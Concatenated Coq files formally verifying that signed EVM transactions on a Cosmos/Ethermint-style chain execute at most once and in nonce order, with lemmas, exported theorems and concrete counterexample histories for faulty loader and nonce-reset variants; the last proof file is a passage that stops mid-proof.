  Fixpoint acc_pass (fs : list (option nat)) (ms : list emsg) : bool :=
    match fs, ms with
    | [], [] => true
    | Some _ :: fr, m :: r => m_funded m && acc_pass fr r
    | _, _ => false
    end.

  (** AnteDecEthIncrementSenderSequence: per message, nonce == sequence, then sequence + 1 *)
  Fixpoint inc_pass (s : state) (fs : list (option nat)) (ms : list emsg) : option state :=
    match fs, ms with
    | [], [] => Some s
    | Some a :: fr, m :: r =>
        if N.eqb (m_nonce m) (s a) then inc_pass (upd s a (N.succ (s a))) fr r else None
    | _, _ => None
    end.

  Definition run_dec (d : dec) (ms : list emsg) (c : actx) : option actx :=
    match d with
    | DValidateBasic => match ms with [] => None | _ => Some c end
    | DSigVerify =>
        match sig_pass ms with
        | None => None
        | Some fs => Some {| a_seq := a_seq c; a_from := fs |}
        end
    | DVerifyEthAcc => if acc_pass (a_from c) ms then Some c else None
    | DIncrementSeq =>
        match inc_pass (a_seq c) (a_from c) ms with
        | None => None
        | Some s => Some {| a_seq := s; a_from := a_from c |}
        end
    | _ => Some c
    end.

  Fixpoint run_chain (ds : list dec) (ms : list emsg) (c : actx) : option actx :=
    match ds with
    | [] => Some c
    | d :: r => match run_dec d ms c with None => None | Some c1 => run_chain r ms c1 end
    end.

  (** the ante handler runs on a cache: a rejection leaves no trace *)
  Definition ante (ds : list dec) (s : state) (ms : list emsg) : option state :=
    match run_chain ds ms {| a_seq := s; a_from := map (fun _ => None) ms |} with
    | None => None
    | Some c => Some (a_seq c)
    end.

  (** StateDB.Commit of one message: every dirty state object other than the sender's was loaded with
      [load (type) (stored sequence)] (statedb.getStateObject -> Keeper.GetAccount) and is written back with
      that nonce (Keeper.SetAccount: acct.SetSequence(account.Nonce)) *)
  Definition commit_touched (s : state) (ts : list nat) : state :=
    fold_right (fun x st => upd st x (load (kinds x) (s x))) s ts.

  (** msg server, one message: (new sequences, uid, nonce CREATE derived the address from) *)
  Definition exec_msg (s : state) (m : emsg) : option (state * nat * option (nat * N)) :=
    match m_exec m, sender_of m with
    | ExecMsgErr, _ | _, None => None
    | out, Some a =>
        (* pre-execution SetNonce on the sender's object (loaded through the keeper) *)
        let s1 := upd s a (pre (m_create m) (load (kinds a) (s a)) (m_nonce m)) in
        let used := s1 a in                                (* evm.Create: GetNonce(caller) *)
        (* a failed execution is reverted to the snapshot: what it touched is not dirty any more *)
        let dirty := match out with ExecOk => m_touch m | _ => [] end in
        (* SetNonce(from, msg.Nonce()+1) on the sender's object, then Commit of all dirty objects *)
        let s2 := upd (commit_touched s dirty) a (N.succ (m_nonce m)) in
        Some (s2, m_uid m,
              match out, m_create m with ExecOk, true => Some (m_uid m, used) | _, _ => None end)
    end.

  (** runMsgs: all messages in order on one cache; any error discards the cache *)
  Fixpoint run_msgs (s : state) (ms : list emsg) : option (state * list nat * list (nat * N)) :=
    match ms with
    | [] => Some (s, [], [])
    | m :: r =>
        match exec_msg s m with
        | None => None
        | Some (s1, u, c) =>
            match run_msgs s1 r with
            | None => None
            | Some (s2, us, cs) => Some (s2, u :: us, match c with Some x => x :: cs | None => cs end)
            end
        end
    end.

  Record result := { r_accepted : bool; r_executed : list nat; r_created : list (nat * N) }.
  Definition rejected : result := {| r_accepted := false; r_executed := []; r_created := [] |}.
  Definition accepted_only : result := {| r_accepted := true; r_executed := []; r_created := [] |}.

  Definition deliver (ds : list dec) (s : state) (t : tx) : state * result :=
    match t with
    | TxEth ms =>
        match ante ds s ms with
        | None => (s, rejected)
        | Some s1 =>
            match run_msgs s1 ms with
            | None => (s1, accepted_only)
            | Some (s2, us, cs) => (s2, {| r_accepted := true; r_executed := us; r_created := cs |})
            end
        end
    | TxCosmos a q ethkey _ =>
        (* SigVerification with the account's current sequence in the sign bytes, then
           IncrementSequence; eth_secp256k1 keys are refused by the signature gas consumer *)
        if negb ethkey && N.eqb q (s a) then (upd s a (N.succ (s a)), accepted_only) else (s, rejected)
    end.

  Fixpoint run (ds : list dec) (s : state) (ts : list tx) : state * list result :=
    match ts with
    | [] => (s, [])
    | t :: r =>
        let '(s1, x) := deliver ds s t in
        let '(s2, xs) := run ds s1 r in (s2, x :: xs)
    end.

  (** blocks are lists of txs; Commit does not touch sequences *)
  Definition run_history (ds : list dec) (s : state) (blocks : list (list tx)) : state * list result :=
    run ds s (concat blocks).

  (** the sequence of states a history goes through (after every tx) *)
  Fixpoint states (ds : list dec) (s : state) (ts : list tx) : list state :=
    match ts with
    | [] => []
    | t :: r => let s1 := fst (deliver ds s t) in s1 :: states ds s1 r
    end.
End WithChain.

(** the harness supplies the recovered address as an oracle value *)
Definition recover_oracle (m : emsg) : option nat := m_sig m.
