(** C07 — exported statements only. *)
From Coq Require Import List Bool Arith NArith ZArith.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Facts Nib.C07.Proofs.

Theorem C07_checker_sound :
  forall chain recover A s0 tr, Pb chain recover A s0 tr = true -> P chain recover A s0 tr.
Proof. exact Pb_sound. Qed.
Print Assumptions C07_checker_sound.
