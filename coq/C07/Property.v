(** C07 — signed EVM transactions execute at most once, in nonce order, on this chain.
    Exported statements only.  [chain] is this chain's EIP-155 id, [recover] any chain-agnostic
    signature-recovery function, [ds] any decorator chain that is well formed ([chain_wf]: the
    ValidateBasic, SigVerify, VerifyEthAcc, IncrementSeq decorators once each in this order — the
    chain of /repo is re-extracted on every run, Gen/C07Oblig.v). *)
From Coq Require Import List Bool Arith NArith ZArith.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Facts Nib.C07.Proofs Nib.C07.ProofsNonvacuous.
(** Round 6: [kinds] is any assignment of auth account types (EthAccount / BaseAccount / vesting account) to
    addresses, every message carries the list [m_touch] of accounts its execution pays / calls / names as
    selfdestruct beneficiary, and [load] is the keeper's account loader; the theorems about executed messages
    hold for every [kinds], every [m_touch] and every loader that is [loader_faithful] (the one of /repo is
    re-extracted on every run, Gen/C07Oblig.v); for the loader that fills the nonce in only for EthAccounts
    they are refuted ([C07_eth_only_loader_refuted]).  [pre] is what ApplyEvmMsg does to the sender's nonce before
    the EVM runs (since fix 80f60c9: creation -> msg.Nonce(), call -> msg.Nonce()+1); the theorems hold for every
    [pre] with [pre_create_resets] (a creation runs with the nonce of its transaction). *)

(** A single-message tx is accepted iff the signature recovers an address, the chain id it
    carries (EIP-155 or typed) is this chain's, the remaining (balance/fee) checks pass and its
    nonce equals the signer's current sequence; the only effect on sequences is signer + 1. *)
Theorem C07_accept_iff_nonce_and_chain :
  forall chain recover ds s m s', chain_wf ds = true ->
  (ante chain recover ds s [m] = Some s' <->
   exists a, recover m = Some a /\ (m_cid m = None \/ m_cid m = Some chain) /\ m_funded m = true /\
             m_nonce m = s a /\ s' = upd s a (N.succ (s a))).
Proof. exact accept_iff_single. Qed.
Print Assumptions C07_accept_iff_nonce_and_chain.

(** Several messages in one tx: accepted iff non-empty, every message passes the other checks and
    each nonce equals the sequence as left by the previous messages of the same tx (n, n+1, …);
    otherwise the whole tx is rejected. *)
Theorem C07_accept_multi_message :
  forall chain recover ds s ms s', chain_wf ds = true ->
  (ante chain recover ds s ms = Some s' <->
   ms <> [] /\ forallb m_funded ms = true /\ accepts chain recover s ms s').
Proof. exact accept_iff_general. Qed.
Print Assumptions C07_accept_multi_message.

(** A rejected tx (ante failure on either path) leaves every sequence untouched. *)
Theorem C07_rejected_changes_nothing :
  forall chain recover kinds load pre ds s t,
  r_accepted (snd (deliver chain recover kinds load pre ds s t)) = false -> fst (deliver chain recover kinds load pre ds s t) = s.
Proof. exact rejected_changes_nothing. Qed.
Print Assumptions C07_rejected_changes_nothing.

(** Each accepted message raises its signer's sequence by exactly one — whether execution
    succeeds, reverts, runs out of gas or the msg server fails — and the msg-server bracket
    SetNonce(n) … SetNonce(n+1) ends on the same value. *)
Theorem C07_sequence_plus_one_per_accepted :
  forall chain recover kinds load, loader_faithful load -> forall pre, pre_create_resets pre -> forall ds s t, chain_wf ds = true ->
  r_accepted (snd (deliver chain recover kinds load pre ds s t)) = true ->
  forall a, fst (deliver chain recover kinds load pre ds s t) a =
            (s a + N.of_nat (length (proj a (tx_claims chain recover t))))%N.
Proof. exact sequence_plus_one_per_accepted. Qed.
Print Assumptions C07_sequence_plus_one_per_accepted.

(** An account's sequence is moved by its own signed transactions only: a tx in which the account signs
    nothing — accepted or not, whatever its execution pays, calls or names as selfdestruct beneficiary, and
    whatever the auth type of the account (EthAccount, BaseAccount, vesting account) — leaves it as it was. *)
Theorem C07_only_own_txs_move_sequence :
  forall chain recover kinds load, loader_faithful load -> forall pre, pre_create_resets pre -> forall ds s t a, chain_wf ds = true ->
  proj a (tx_claims chain recover t) = [] -> fst (deliver chain recover kinds load pre ds s t) a = s a.
Proof. exact only_own_txs_move_sequence. Qed.
Print Assumptions C07_only_own_txs_move_sequence.

(** … and that depends on the loader: if getAccountWithoutBalance handed the stored sequence to the StateDB
    only for EthAccounts, a payment to a BaseAccount / vesting account would write sequence 0 back and the
    account's executed transactions would execute again (witness: ProofsNonvacuous.hist_touch). *)
Theorem C07_eth_only_loader_refuted :
  exists kinds ts,
    hash_binding ch recover_oracle ts /\
    count_occ Nat.eq_dec (all_executed (trace ch recover_oracle kinds load_eth_only pre_std std_chain init ts)) 0 = 2 /\
    Pb ch recover_oracle [0; 1; 10] init (trace ch recover_oracle kinds load_eth_only pre_std std_chain init ts) = false.
Proof. exact eth_only_loader_refuted. Qed.
Print Assumptions C07_eth_only_loader_refuted.

(** Over ANY history of Ethereum and Cosmos-signed txs (duplicates, gaps, reordering, multi-message
    txs, failing executions, any number of blocks): per account the sequence numbers of the
    accepted messages are s0, s0+1, s0+2, … in order — one numbering shared by both tx families —
    and the final sequence is s0 + their number. *)
Theorem C07_nonce_order_shared_sequence :
  forall chain recover kinds load, loader_faithful load -> forall pre, pre_create_resets pre -> forall ds, chain_wf ds = true -> forall ts s a,
  proj a (acc_claims chain recover (trace chain recover kinds load pre ds s ts)) =
    Nseq (s a) (length (proj a (acc_claims chain recover (trace chain recover kinds load pre ds s ts)))) /\
  final s (trace chain recover kinds load pre ds s ts) a =
    (s a + N.of_nat (length (proj a (acc_claims chain recover (trace chain recover kinds load pre ds s ts)))))%N.
Proof. exact history_consecutive. Qed.
Print Assumptions C07_nonce_order_shared_sequence.

(** At most once: in any history no signed transaction (identified by its hash, which binds signer
    and nonce) is executed twice. *)
Theorem C07_at_most_once :
  forall chain recover kinds load, loader_faithful load -> forall pre, pre_create_resets pre -> forall ds s ts u,
  chain_wf ds = true -> hash_binding chain recover ts ->
  (count_occ Nat.eq_dec (all_executed (trace chain recover kinds load pre ds s ts)) u <= 1)%nat.
Proof. exact at_most_once. Qed.
Print Assumptions C07_at_most_once.

(** A contract is created at create_addr(signer, k) with k the TRANSACTION's nonce (the value the
    msg server writes before the EVM runs), also when the account sequence is already ahead. *)
Theorem C07_create_address :
  forall chain recover kinds load pre, pre_create_resets pre ->
  forall ds s ms s' r, deliver chain recover kinds load pre ds s (TxEth ms) = (s', r) ->
  forall u k, In (u, k) (r_created r) ->
  exists m, In m ms /\ m_uid m = u /\ m_nonce m = k /\ m_create m = true /\ m_exec m = ExecOk.
Proof. exact created_at_tx_nonce. Qed.
Print Assumptions C07_create_address.

(** … which needs the reset: if ApplyEvmMsg only undid a single ante increment before a creation, a creation
    followed by another message of the same signer in one tx would be deployed at the address of nonce n+2. *)
Theorem C07_pre_reset_if_single_increment_refuted :
  let d := deliver ch recover_oracle kd load_std pre_reset_if_single_increment std_chain init (TxEth [c0; c1]) in
  r_created (snd d) = [(0, 2%N)] /\
  Pb ch recover_oracle [0] init [(TxEth [c0; c1], snd d, fst d)] = false /\
  ~ pre_create_resets pre_reset_if_single_increment.
Proof. exact pre_reset_if_single_increment_refuted. Qed.
Print Assumptions C07_pre_reset_if_single_increment_refuted.

(** The trace predicate evaluated on implementation traces holds of every model trace. *)
Theorem C07_model_satisfies_P :
  forall chain recover kinds load, loader_faithful load -> forall pre, pre_create_resets pre -> forall A ds s ts,
  chain_wf ds = true -> hash_binding chain recover ts ->
  P chain recover A s (trace chain recover kinds load pre ds s ts).
Proof. exact model_satisfies_P. Qed.
Print Assumptions C07_model_satisfies_P.

(** … and the boolean checker is sound for it. *)
Theorem C07_checker_sound :
  forall chain recover A s0 tr, Pb chain recover A s0 tr = true -> P chain recover A s0 tr.
Proof. exact Pb_sound. Qed.
Print Assumptions C07_checker_sound.
