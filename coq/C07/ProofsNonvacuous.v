(** C07 — non-vacuity: concrete histories that meet the hypotheses of the exported theorems and
    exercise their interesting branches (evaluated with the model itself). *)
From Coq Require Import List Bool Arith NArith ZArith Lia.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Facts Nib.C07.Proofs.

Definition mk (u : nat) (n : N) (cid : option Z) (sg : option nat) (e : exec_outcome) (c : bool) : emsg :=
  {| m_uid := u; m_nonce := n; m_cid := cid; m_sig := sg; m_funded := true; m_exec := e; m_create := c; m_touch := [] |}.
(** the same message paying / calling / naming as beneficiary the accounts [ts] *)
Definition touching (m : emsg) (ts : list nat) : emsg :=
  {| m_uid := m_uid m; m_nonce := m_nonce m; m_cid := m_cid m; m_sig := m_sig m; m_funded := m_funded m;
     m_exec := m_exec m; m_create := m_create m; m_touch := ts |}.
(** account 0 is a BaseAccount (add-genesis-account), 10 a vesting account, everything else an EthAccount *)
Definition kd (a : nat) : akind := match a with 0 => KBase | 10 => KVesting | _ => KEth end.
Definition eth (_ : nat) : akind := KEth.

Definition ch : Z := 6930%Z.
Definition m0 := mk 0 0 (Some ch) (Some 0) ExecOk false.
Definition m1 := mk 1 1 (Some ch) (Some 0) ExecVmErr false.
Definition m2 := mk 2 2 None (Some 0) ExecOk true.           (* unprotected legacy create *)
Definition m3 := mk 3 3 (Some ch) (Some 0) ExecMsgErr false.  (* fails in the msg server *)
Definition mw := mk 4 4 (Some 1%Z) (Some 0) ExecOk false.     (* wrong chain id *)
Definition m4 := mk 5 4 (Some ch) (Some 0) ExecOk true.
Definition m5 := mk 6 5 (Some ch) (Some 0) ExecOk true.

(** accept, replay, gap, n/n+1 with a failing execution, msg-server failure, wrong chain id,
    two creates in one tx, Cosmos txs on another account of the same key, late resubmission *)
Definition hist : list tx :=
  [TxEth [m0]; TxEth [m0]; TxEth [m2]; TxEth [m1; m2]; TxEth [m3]; TxEth [m3]; TxEth [mw];
   TxCosmos 10 0 false true; TxCosmos 10 0 false true; TxCosmos 0 4 true true;
   TxEth [m4; m5]; TxEth [m1]].

Example accept_nonvacuous :
  ante ch recover_oracle std_chain init [m0] = Some (upd init 0 1%N) /\
  ante ch recover_oracle std_chain init [mw] = None /\
  ante ch recover_oracle std_chain init [m1] = None /\
  chain_wf std_chain = true.
Proof. vm_compute. repeat split; reflexivity. Qed.

Example history_nonvacuous :
  map r_accepted (snd (run ch recover_oracle kd load_std pre_std std_chain init hist)) =
    [true; false; false; true; true; false; false; true; false; false; true; false] /\
  map r_executed (snd (run ch recover_oracle kd load_std pre_std std_chain init hist)) =
    [[0]; []; []; [1; 2]; []; []; []; []; []; []; [5; 6]; []] /\
  map r_created (snd (run ch recover_oracle kd load_std pre_std std_chain init hist)) =
    [[]; []; []; [(2, 2%N)]; []; []; []; []; []; []; [(5, 4%N); (6, 5%N)]; []] /\
  map (fst (run ch recover_oracle kd load_std pre_std std_chain init hist)) [0; 10] = [6%N; 1%N].
Proof. vm_compute. repeat split; reflexivity. Qed.

Example checker_nonvacuous :
  Pb ch recover_oracle [0; 10] init (trace ch recover_oracle kd load_std pre_std std_chain init hist) = true.
Proof. vm_compute. reflexivity. Qed.

(** the checker is not trivially true: a trace in which the replayed tx executes again is refused *)
Example checker_rejects_replay :
  Pb ch recover_oracle [0] init
     [(TxEth [m0], {| r_accepted := true; r_executed := [0]; r_created := [] |}, upd init 0 1%N);
      (TxEth [m0], {| r_accepted := true; r_executed := [0]; r_created := [] |}, upd init 0 2%N)] = false.
Proof. vm_compute. reflexivity. Qed.

Example checker_rejects_wrong_chain :
  Pb ch recover_oracle [0] init
     [(TxEth [mk 0 0 (Some 1%Z) (Some 0) ExecOk false],
       {| r_accepted := true; r_executed := [0]; r_created := [] |}, upd init 0 1%N)] = false.
Proof. vm_compute. reflexivity. Qed.

Example checker_rejects_create_at_sequence :
  (* a create inside [n; n+1] deployed at the address of the account sequence (n+2) instead of n *)
  Pb ch recover_oracle [0] init
     [(TxEth [mk 0 0 (Some ch) (Some 0) ExecOk true; mk 1 1 (Some ch) (Some 0) ExecOk false],
       {| r_accepted := true; r_executed := [0; 1]; r_created := [(0, 2%N)] |}, upd init 0 2%N)] = false.
Proof. vm_compute. reflexivity. Qed.

(** uids of [hist] bind signer and nonce (all messages with equal uid are the same message) *)
Definition binding_b (ts : list tx) : bool :=
  let ms := flat_map (fun t => match t with TxEth l => l | _ => [] end) ts in
  forallb (fun m => forallb (fun m' =>
    negb (Nat.eqb (m_uid m) (m_uid m')) ||
    (N.eqb (m_nonce m) (m_nonce m') &&
     match sender_of ch recover_oracle m, sender_of ch recover_oracle m' with
     | Some a, Some b => Nat.eqb a b | None, None => true | _, _ => false end)) ms) ms.

Lemma binding_b_sound ts : binding_b ts = true -> hash_binding ch recover_oracle ts.
Proof.
  unfold binding_b, hash_binding. intros H ms ms' m m' Hms Hms' Hm Hm' Hu.
  rewrite forallb_forall in H.
  assert (In m (flat_map (fun t => match t with TxEth l => l | _ => [] end) ts))
    by (apply in_flat_map; exists (TxEth ms); auto).
  assert (In m' (flat_map (fun t => match t with TxEth l => l | _ => [] end) ts))
    by (apply in_flat_map; exists (TxEth ms'); auto).
  specialize (H m H0). rewrite forallb_forall in H. specialize (H m' H1).
  apply orb_true_iff in H as [H|H].
  - apply negb_true_iff in H. apply Nat.eqb_neq in H. contradiction.
  - apply andb_true_iff in H as [Hn Hs]. apply N.eqb_eq in Hn. split; [|assumption].
    destruct (sender_of ch recover_oracle m), (sender_of ch recover_oracle m'); try discriminate; auto.
    apply Nat.eqb_eq in Hs. subst. reflexivity.
Qed.

Example at_most_once_nonvacuous :
  hash_binding ch recover_oracle hist /\
  all_executed (trace ch recover_oracle kd load_std pre_std std_chain init hist) = [0; 1; 2; 5; 6].
Proof. split; [apply binding_b_sound; vm_compute; reflexivity|vm_compute; reflexivity]. Qed.

(* ------------------------------------------------------------------ account types and touched accounts *)

(** account 0 (BaseAccount) executes g0, g1; account 1 then pays 0 and 10 (vesting, Cosmos sequence 1) in an
    executed tx, names them in a reverting one; then everything is resubmitted *)
Definition g0 := mk 0 0 (Some ch) (Some 0) ExecOk false.
Definition g1 := mk 1 1 (Some ch) (Some 0) ExecOk true.
Definition gift := touching (mk 2 0 (Some ch) (Some 1) ExecOk false) [0; 10].
Definition gift_rev := touching (mk 3 1 (Some ch) (Some 1) ExecVmErr false) [0; 10].
Definition hist_touch : list tx :=
  [TxEth [g0]; TxEth [g1]; TxCosmos 10 0 false true; TxEth [gift; gift_rev]; TxEth [g0]; TxEth [g1];
   TxCosmos 10 0 false true; TxEth [touching g0 [0; 1]]].

Example touch_nonvacuous :
  map r_accepted (snd (run ch recover_oracle kd load_std pre_std std_chain init hist_touch)) =
    [true; true; true; true; false; false; false; false] /\
  all_executed (trace ch recover_oracle kd load_std pre_std std_chain init hist_touch) = [0; 1; 2; 3] /\
  map (fst (run ch recover_oracle kd load_std pre_std std_chain init hist_touch)) [0; 1; 10] = [2%N; 2%N; 1%N] /\
  Pb ch recover_oracle [0; 1; 10] init (trace ch recover_oracle kd load_std pre_std std_chain init hist_touch) = true /\
  hash_binding ch recover_oracle hist_touch.
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|]. apply binding_b_sound. vm_compute. reflexivity.
Qed.

(** with the loader that fills the nonce in only for EthAccounts the same history is NOT safe: the payment
    writes sequence 0 back to the BaseAccount and to the vesting account, and the resubmitted g0, g1 and the
    Cosmos tx with sequence 0 are accepted and executed a second time; the checker refuses that trace *)
Lemma eth_only_loader_refuted :
  exists kinds ts,
    hash_binding ch recover_oracle ts /\
    count_occ Nat.eq_dec (all_executed (trace ch recover_oracle kinds load_eth_only pre_std std_chain init ts)) 0 = 2 /\
    Pb ch recover_oracle [0; 1; 10] init (trace ch recover_oracle kinds load_eth_only pre_std std_chain init ts) = false.
Proof.
  exists kd, hist_touch. split; [apply binding_b_sound; vm_compute; reflexivity|].
  split; vm_compute; reflexivity.
Qed.

(** … while it is safe for every history whose accounts are all EthAccounts (the only kind the previous
    rounds generated): on that class the two loaders cannot be told apart *)
Example eth_only_loader_same_on_eth_accounts :
  snd (run ch recover_oracle eth load_eth_only pre_std std_chain init hist_touch) =
  snd (run ch recover_oracle eth load_std pre_std std_chain init hist_touch).
Proof. vm_compute. reflexivity. Qed.

Example eth_only_loader_effect :
  map r_accepted (snd (run ch recover_oracle kd load_eth_only pre_std std_chain init hist_touch)) =
    [true; true; true; true; true; true; true; false] /\
  all_executed (trace ch recover_oracle kd load_eth_only pre_std std_chain init hist_touch) = [0; 1; 2; 3; 0; 1].
Proof. vm_compute. split; reflexivity. Qed.

(* ------------------------------------------------------------------ the nonce a creation runs with *)

(** a creation followed by another message of the same signer in one tx: the ante raised the sequence by two
    before the creation runs; it is still deployed at the address of (signer, 0), under the current shape of
    ApplyEvmMsg and under the one before fix 80f60c9 *)
Definition c0 := mk 0 0 (Some ch) (Some 0) ExecOk true.
Definition c1 := mk 1 1 (Some ch) (Some 0) ExecOk false.

Example create_in_multi_msg_nonvacuous :
  r_created (snd (deliver ch recover_oracle kd load_std pre_std std_chain init (TxEth [c0; c1]))) = [(0, 0%N)] /\
  r_created (snd (deliver ch recover_oracle kd load_std pre_reset_always std_chain init (TxEth [c0; c1]))) = [(0, 0%N)] /\
  pre_create_resets pre_std /\ pre_create_resets pre_reset_always.
Proof. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. split; intros cur n; reflexivity. Qed.

(** if the reset only undid ONE ante increment the creation would run with nonce 2: deployed at the address of
    (signer, 2), which no message of the tx carries — the checker refuses that trace *)
Lemma pre_reset_if_single_increment_refuted :
  let d := deliver ch recover_oracle kd load_std pre_reset_if_single_increment std_chain init (TxEth [c0; c1]) in
  r_created (snd d) = [(0, 2%N)] /\
  Pb ch recover_oracle [0] init [(TxEth [c0; c1], snd d, fst d)] = false /\
  ~ pre_create_resets pre_reset_if_single_increment.
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  intro H. specialize (H 2%N 0%N). vm_compute in H. discriminate.
Qed.
