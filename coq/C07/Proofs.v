(** C07 — lemmas and invariants. *)
From Coq Require Import List Bool Arith NArith ZArith Lia.
Import ListNotations.
Require Import Nib.C07.Model Nib.C07.Spec Nib.C07.Facts.

(* ------------------------------------------------------------------ lists *)

Inductive sublist {X} : list X -> list X -> Prop :=
| sl_nil : sublist [] []
| sl_cons x l1 l2 : sublist l1 l2 -> sublist (x :: l1) (x :: l2)
| sl_skip x l1 l2 : sublist l1 l2 -> sublist l1 (x :: l2).

Lemma sublist_refl {X} (l : list X) : sublist l l.
Proof. induction l; constructor; auto. Qed.

Lemma sublist_nil_l {X} (l : list X) : sublist [] l.
Proof. induction l; constructor; auto. Qed.

Lemma sublist_app {X} (a a' b b' : list X) : sublist a a' -> sublist b b' -> sublist (a ++ b) (a' ++ b').
Proof. induction 1; simpl; intros; auto; constructor; auto. Qed.

Lemma sublist_In {X} (a b : list X) x : sublist a b -> In x a -> In x b.
Proof. induction 1; simpl; intros; auto. destruct H0; auto. Qed.

Lemma sublist_NoDup {X} (a b : list X) : sublist a b -> NoDup b -> NoDup a.
Proof.
  induction 1; intro Hn; auto.
  - inversion Hn; subst. constructor; auto. intro Hi. apply H2. eapply sublist_In; eauto.
  - inversion Hn; auto.
Qed.

Lemma sublist_map {X Y} (f : X -> Y) a b : sublist a b -> sublist (map f a) (map f b).
Proof. induction 1; simpl; constructor; auto. Qed.

(** if [g] is determined by... : equal [g]-images force equal [f]-images, so distinct [f]-images
    have distinct [g]-images *)
Lemma NoDup_map_binding {X Y Z} (f : X -> Y) (g : X -> Z) (l : list X) :
  NoDup (map f l) -> (forall x y, In x l -> In y l -> g x = g y -> f x = f y) -> NoDup (map g l).
Proof.
  induction l as [|x l IH]; simpl; intros Hn Hb; [constructor|].
  inversion Hn; subst. constructor.
  - intro Hi. apply in_map_iff in Hi as [y [Hy Hin]]. apply H1.
    rewrite <- (Hb y x); auto. apply in_map; auto.
  - apply IH; auto.
Qed.

Lemma NoDup_map_inj {X Y} (f : X -> Y) (l : list X) :
  (forall x y, f x = f y -> x = y) -> NoDup l -> NoDup (map f l).
Proof.
  intros Hinj. induction 1; simpl; constructor; auto.
  intro Hi. apply in_map_iff in Hi as [y [Hy Hin]]. apply Hinj in Hy. subst. auto.
Qed.

(* ------------------------------------------------------------------ Nseq, proj *)

Lemma Nseq_length s k : length (Nseq s k) = k.
Proof. revert s; induction k; simpl; auto. Qed.

Lemma Nseq_app s k1 k2 : Nseq s (k1 + k2) = Nseq s k1 ++ Nseq (s + N.of_nat k1) k2.
Proof.
  revert s; induction k1; intro s.
  - simpl. rewrite N.add_0_r. reflexivity.
  - simpl Nseq at 1 2. simpl app. rewrite IHk1. do 3 f_equal. lia.
Qed.

Lemma Nseq_ge s k x : In x (Nseq s k) -> (s <= x)%N.
Proof. revert s; induction k; simpl; intros s H; [tauto|]. destruct H as [->|H]; [lia|]. apply IHk in H. lia. Qed.

Lemma Nseq_NoDup s k : NoDup (Nseq s k).
Proof.
  revert s; induction k; intro s; simpl; constructor; auto.
  intro H. apply Nseq_ge in H. lia.
Qed.

Lemma proj_app a l1 l2 : proj a (l1 ++ l2) = proj a l1 ++ proj a l2.
Proof. unfold proj. rewrite filter_app, map_app. reflexivity. Qed.

Lemma proj_sublist a l : sublist (map (fun n => (a, n)) (proj a l)) l.
Proof.
  induction l as [|[b n] l IH]; simpl; [constructor|].
  unfold proj. simpl. destruct (Nat.eqb b a) eqn:E.
  - apply Nat.eqb_eq in E. subst. simpl. constructor. exact IH.
  - constructor. exact IH.
Qed.

(** a list of (key, value) pairs has no duplicates when no key has a duplicated value *)
Lemma NoDup_by_key (l : list (nat * N)) : (forall a, NoDup (proj a l)) -> NoDup l.
Proof.
  induction l as [|[a n] l IH]; intro H; [constructor|].
  constructor.
  - intro Hin. specialize (H a). unfold proj in H. simpl in H. rewrite Nat.eqb_refl in H. simpl in H.
    inversion H; subst. apply H2. apply in_map_iff. exists (a, n). split; auto.
    apply filter_In. split; auto. simpl. apply Nat.eqb_refl.
  - apply IH. intro b. specialize (H b). unfold proj in *. simpl in H.
    destruct (Nat.eqb a b); simpl in H; auto. inversion H; auto.
Qed.

(* ------------------------------------------------------------------ state *)

Lemma upd_same s a v : upd s a v a = v.
Proof. unfold upd. rewrite Nat.eqb_refl. reflexivity. Qed.

Lemma upd_other s a v b : b <> a -> upd s a v b = s b.
Proof. unfold upd. intro H. apply Nat.eqb_neq in H. rewrite H. reflexivity. Qed.

(* ------------------------------------------------------------------ decorator chain *)

Lemma dec_eqb_eq a b : dec_eqb a b = true -> a = b.
Proof. destruct a, b; simpl; congruence. Qed.

Lemma decs_eqb_eq a b : decs_eqb a b = true -> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b] H; simpl in H; try discriminate; auto.
  apply andb_true_iff in H as [H1 H2]. apply dec_eqb_eq in H1. subst. f_equal. auto.
Qed.

Section Proofs.
  Variable chain : Z.
  Variable recover : emsg -> option nat.
  Variable kinds : nat -> akind.
  Variable load : loader.
  (** the keeper's loader hands every account's stored sequence to the StateDB, whatever its type *)
  Hypothesis Hload : loader_faithful load.
  Variable pre : prefn.
  (** a contract creation is executed with the nonce of its transaction *)
  Hypothesis Hpre : pre_create_resets pre.

  Notation sender_of := (sender_of chain recover).
  Notation sig_pass := (sig_pass chain recover).
  Notation ante := (ante chain recover).
  Notation run_msgs := (run_msgs chain recover kinds load pre).
  Notation exec_msg := (exec_msg chain recover kinds load pre).
  Notation deliver := (deliver chain recover kinds load pre).
  Notation tx_claims := (tx_claims chain recover).

  Lemma run_dec_irrelevant d ms c : relevant d = false -> run_dec chain recover d ms c = Some c.
  Proof. destruct d; simpl; intro H; try discriminate; reflexivity. Qed.

  Lemma run_chain_filter ds ms c :
    run_chain chain recover ds ms c = run_chain chain recover (filter relevant ds) ms c.
  Proof.
    revert c; induction ds as [|d ds IH]; intro c; simpl; [reflexivity|].
    destruct (relevant d) eqn:E.
    - simpl. destruct (run_dec chain recover d ms c); auto.
    - rewrite run_dec_irrelevant by assumption. apply IH.
  Qed.

  (** the four relevant decorators fused into one function *)
  Definition ante_core (s : state) (ms : list emsg) : option state :=
    match ms with
    | [] => None
    | _ =>
        match sig_pass ms with
        | None => None
        | Some fs => if acc_pass fs ms then inc_pass s fs ms else None
        end
    end.

  Lemma ante_wf ds s ms : chain_wf ds = true -> ante ds s ms = ante_core s ms.
  Proof.
    intro H. unfold chain_wf in H. apply decs_eqb_eq in H.
    unfold ante. rewrite run_chain_filter, H. unfold ante_core.
    destruct ms as [|m r]; [reflexivity|].
    cbn [run_chain run_dec]. destruct (sig_pass (m :: r)) as [fs|]; [|reflexivity].
    cbn [run_chain run_dec a_from a_seq]. destruct (acc_pass fs (m :: r)); [|reflexivity].
    cbn [run_chain run_dec a_from a_seq]. destruct (inc_pass s fs (m :: r)); reflexivity.
  Qed.

  (* ---------------------------------------------------------------- signature pass *)

  Lemma sig_pass_spec ms fs :
    sig_pass ms = Some fs -> fs = map sender_of ms /\ Forall (fun m => exists a, sender_of m = Some a) ms.
  Proof.
